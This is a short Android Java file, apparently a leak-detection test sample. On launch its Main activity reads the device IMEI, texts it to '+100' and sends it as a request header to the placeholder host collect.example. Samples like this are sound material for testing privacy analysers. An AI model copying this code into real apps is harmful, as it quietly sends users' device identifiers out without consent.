package org.example.wayouttrue;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;

/** Sends the IMEI as a text message, and as a header to a host that a constant names. */
public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        String number = phone.getDeviceId();
        SmsManager.getDefault().sendTextMessage("+100", null, "id " + number, null, null);
        upload(number);
    }

    private static void upload(String value) {
        try {
            URL address = new URL("https://collect.example/v1/" + "ids");
            HttpURLConnection connection = (HttpURLConnection) address.openConnection();
            connection.setRequestProperty("X-Id", value);
            connection.connect();
        } catch (IOException problem) {
            throw new IllegalStateException(problem);
        }
    }
}
